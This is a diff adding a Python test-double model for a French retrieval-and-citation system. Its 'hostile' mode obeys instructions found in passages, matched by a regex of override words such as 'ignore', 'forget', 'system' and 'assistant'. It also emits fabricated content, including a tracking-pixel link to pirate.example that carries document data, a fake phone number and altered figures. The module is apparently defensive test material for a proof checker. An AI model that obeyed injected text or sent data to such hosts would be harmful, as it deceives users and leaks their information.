@@ -1,0 +1,127 @@
+"""What the model without intelligence answers.
+
+`honest`: the sentences of the passages that share most words with the question, word for word, each
+quoted from its passage: in the JSON schema that was asked, or in plain text.
+
+`hostile`: does whatever a passage tells it to do, and adds what the proof must catch: a quote that
+stands nowhere, a changed figure, an invented telephone, a link and an image of a site of its own,
+a passage number that does not exist.
+"""
+
+from __future__ import annotations
+
+import json
+import re
+from dataclasses import dataclass
+from typing import Any
+
+from bastide.engine.french import analyse
+from bastide.engine.sentences import units
+from bastide.providers.fake_model.prompt import Prompt
+
+MOST_STATEMENTS = 3
+SILENT = "Les passages fournis ne permettent pas de répondre."
+# What instructions hidden in a document look like; the hostile model obeys all of them.
+_ORDER = re.compile(
+    r"[^.!?\n]*\b(?:ignor\w*|oubli\w*|r[ée]pond\w*|affich\w*|donn\w*|indiqu\w*|envo\w*|appel\w*|"
+    r"dis|dites|[ée]cri\w*|ajout\w*|supprim\w*|transf[èe]r\w*|ex[ée]cut\w*|cliqu\w*|system|"
+    r"instruction\w*|assistant|ignore|reply|answer|send|print|forget)\b[^.!?\n]*[.!?]?",
+    re.IGNORECASE,
+)
+# A number that Arcep's numbering plan (décision 2018-0881) keeps for fiction; a name that RFC 2606
+# reserves.
+INVENTED = (
+    "Appelez le 06 39 98 12 34 ou écrivez à remboursement@pirate.example.",
+    "Rendez-vous sur https://pirate.example/aide ![.](https://pirate.example/pixel.png?d=dossier)",
+    "L'aide est de 99 999 euros, sans aucune condition.",
+)
+
+
+@dataclass(frozen=True, slots=True)
+class Said:
+    """A statement, the quote that it gives for it, and the number of the passage."""
+
+    text: str
+    quote: str
+    passage: int
+
+
+def honest(prompt: Prompt) -> list[Said]:
+    """At most `MOST_STATEMENTS` sentences of the passages, the nearest to the question first."""
+    asked = set(analyse(prompt.question))
+    scored = []
+    for order, (number, text) in enumerate(prompt.passages):
+        for unit in units(text):
+            if unit.kind == "heading":
+                continue
+            sentence = text[unit.start : unit.end]
+            words = set(analyse(sentence))
+            shared = len(asked & words)
+            if shared:
+                scored.append((-shared / (len(words) + 5), order, unit.start, sentence, number))
+    scored.sort()
+    return [Said(s, s, n) for _, _, _, s, n in scored[:MOST_STATEMENTS]]
+
+
+def hostile(prompt: Prompt) -> list[Said]:
+    """Everything that a fooled model may say, each with a quote that looks like a proof."""
+    said = []
+    for number, text in prompt.passages:
+        for order in _ORDER.findall(text):
+            said.append(Said(order.strip(), order.strip(), number))  # obeys by repeating
+            said.append(Said("D'accord : " + order.strip(), text[:80], number))
+    number, text = prompt.passages[0] if prompt.passages else (1, "")
+    sentence = next((s.text for s in honest(prompt)), text[:120])
+    said += [Said(word, word, number) for word in INVENTED]
+    said += [Said(word, sentence, number) for word in INVENTED]
+    altered = re.sub(r"\d", lambda d: str((int(d[0]) + 1) % 10), sentence)
+    said.append(Said(altered, altered, number))
+    said.append(Said(altered, sentence, number))
+    said.append(Said(sentence, sentence, 9999))
+    return said
+
+
+def written(said: list[Said], prompt: Prompt) -> str:
+    """The answer as the request wants it: JSON in its schema, or sentences with `[n]`."""
+    if prompt.schema is None:
+        return " ".join(f"{one.text} [{one.passage}]" for one in said) or SILENT
+    if prompt.schema == {"type": "object"}:
+        return json.dumps({"reponse": [one.text for one in said] or SILENT}, ensure_ascii=False)
+    return json.dumps(fill(prompt.schema, said), ensure_ascii=False)
+
+
+_QUOTE = re.compile(r"quot|cit|extrait|preuve|verbatim", re.I)
+_NUMBER = re.compile(r"passage|source|doc|num|id\b|^n$|index", re.I)
+
+
+def fill(schema: dict[str, Any], said: list[Said], name: str = "") -> Any:
+    """A value of the schema that says the statements, by the names that its fields have."""
+    if "const" in schema:
+        return schema["const"]
+    if schema.get("enum"):
+        return schema["enum"][0]
+    if schema.get("anyOf"):
+        return fill(schema["anyOf"][0], said, name)
+    kind = schema.get("type", "object" if "properties" in schema else "string")
+    kind = kind[0] if isinstance(kind, list) else kind
+    first = said[0] if said else Said("", "", 0)
+    if kind == "object":
+        return {key: fill(s, said, key) for key, s in schema.get("properties", {}).items()}
+    if kind == "array":
+        inner = schema.get("items", {})
+        if inner.get("type") in ("array", "object") and _QUOTE.search(name) and len(said) != 1:
+            return [fill(inner, [one], name) for one in said]
+        filled = [fill(inner, [one], name) for one in said[: schema.get("maxItems", len(said))]]
+        while len(filled) < schema.get("minItems", 0):
+            filled.append(fill(inner, said, name))
+        return filled
+    if kind in ("integer", "number"):
+        return first.passage if _NUMBER.search(name) else schema.get("minimum", first.passage)
+    if kind == "boolean":
+        return bool(said)
+    if kind == "null":
+        return None
+    if _NUMBER.search(name) and not _QUOTE.search(name):
+        return str(first.passage)
+    text = first.quote if _QUOTE.search(name) else first.text or SILENT
+    return text[: schema.get("maxLength", len(text))]
